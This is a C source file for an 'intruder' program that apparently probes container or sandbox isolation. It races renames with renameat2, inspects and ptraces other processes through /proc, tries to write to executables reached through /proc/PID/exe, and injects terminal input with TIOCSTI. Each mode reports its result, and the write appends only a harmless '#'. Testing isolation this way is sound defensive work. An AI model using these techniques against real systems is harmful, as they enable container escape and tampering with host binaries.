/*
 * What an attacker runs: static, so that it runs anywhere.
 *
 *   intruder flip A B           exchanges two names for as long as it lives, and says at SIGTERM how often
 *   intruder watch OWN          looks at every process that appears in /proc: its descriptors, its executable, whether it
 *                               can be traced; OWN is the only executable that is no news
 *   intruder overwrite          keeps every executable it can reach by /proc/PID/exe, and tries to write to it
 *   intruder tty                pushes input back into the terminal it was given
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
#define MAX_KEPT 256

static volatile sig_atomic_t stopped;

static void stop(int signal)
{
	(void)signal;
	stopped = 1;
}

static int flip(const char *a, const char *b)
{
	unsigned long count = 0;

	puts("flipping");
	fflush(stdout);
	while (!stopped)
		count += syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0;
	printf("%lu times\n", count);
	return 0;
}

/* The target of a link in /proc; 0 when it cannot be read. */
static int target_of(const char *path, char *target, size_t size)
{
	ssize_t bytes = readlink(path, target, size - 1);

	if (bytes < 0)
		return 0;
	target[bytes] = 0;
	return 1;
}

static void look_at_descriptors(const char *pid)
{
	char folder[64], path[400], target[512];
	struct dirent *entry;
	DIR *dir;

	snprintf(folder, sizeof(folder), "/proc/%s/fd", pid);
	dir = opendir(folder);
	while (dir && (entry = readdir(dir))) {
		if (entry->d_name[0] == '.' || atoi(entry->d_name) < 3)
			continue;
		snprintf(path, sizeof(path), "%s/%s", folder, entry->d_name);
		if (target_of(path, target, sizeof(target)))
			printf("descriptor %s of another process: %s\n", entry->d_name, target);
	}
	if (dir)
		closedir(dir);
}

static void try_to_trace(const char *pid, const char *own)
{
	char path[64], target[512];
	int number = atoi(pid);

	if (ptrace(PTRACE_SEIZE, number, 0, 0) < 0)
		return;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (target_of(path, target, sizeof(target)) && strcmp(target, own) != 0)
		printf("traced a process of %s\n", target);
	ptrace(PTRACE_INTERRUPT, number, 0, 0);
	waitpid(number, 0, __WALL);
	ptrace(PTRACE_DETACH, number, 0, 0);
}

static void look_at(const char *pid, const char *own)
{
	char path[64], target[512];

	look_at_descriptors(pid);
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (target_of(path, target, sizeof(target)) && strcmp(target, own) != 0)
		printf("executable of another process: %s\n", target);
	try_to_trace(pid, own);
}

static int kept[MAX_KEPT], kept_count;

/* O_PATH needs no permission to write, and keeps the file when its process has ended. */
static void keep_executable(const char *pid)
{
	char path[64], target[512];

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (kept_count == MAX_KEPT || !target_of(path, target, sizeof(target)) || target[0] != '/' ||
	    strncmp(target, "/bin/", 5) == 0)
		return;
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	/* It may have become the program of the container since. */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (!target_of(path, target, sizeof(target)) || strncmp(target, "/bin/", 5) == 0)
		close(fd);
	else
		kept[kept_count++] = fd;
}

static void try_to_write(void)
{
	char path[64], target[512];

	for (int i = 0; i < kept_count; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		/* Past the end, where it does no harm to whoever is attacked. */
		lseek(fd, 0, SEEK_END);
		if (write(fd, "#", 1) == 1 && target_of(path, target, sizeof(target)))
			printf("wrote to the executable %s\n", target);
		close(fd);
	}
}

static int watch(const char *own, int overwrite)
{
	puts("watching");
	fflush(stdout);
	while (!stopped) {
		struct dirent *entry;
		DIR *proc = opendir("/proc");

		while (proc && (entry = readdir(proc))) {
			int pid = atoi(entry->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			if (overwrite)
				keep_executable(entry->d_name);
			else
				look_at(entry->d_name, own);
		}
		if (proc)
			closedir(proc);
		if (overwrite)
			try_to_write();
		fflush(stdout);
	}
	puts("done");
	return 0;
}

static int push_input(void)
{
	for (int fd = 0; fd < 3; fd++) {
		if (!isatty(fd))
			continue;
		ioctl(fd, TIOCSCTTY, 0);
		printf("descriptor %d is a terminal: %s\n", fd, ioctl(fd, TIOCSTI, "x") == 0 ? "pushed" : strerror(errno));
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct sigaction action = { .sa_handler = stop };

	sigaction(SIGTERM, &action, 0);
	if (argc == 4 && strcmp(argv[1], "flip") == 0)
		return flip(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "watch") == 0)
		return watch(argv[2], 0);
	if (argc == 2 && strcmp(argv[1], "overwrite") == 0)
		return watch("", 1);
	if (argc == 2 && strcmp(argv[1], "tty") == 0)
		return push_input();
	fprintf(stderr, "usage: intruder flip A B | watch OWN | overwrite | tty\n");
	return 2;
}
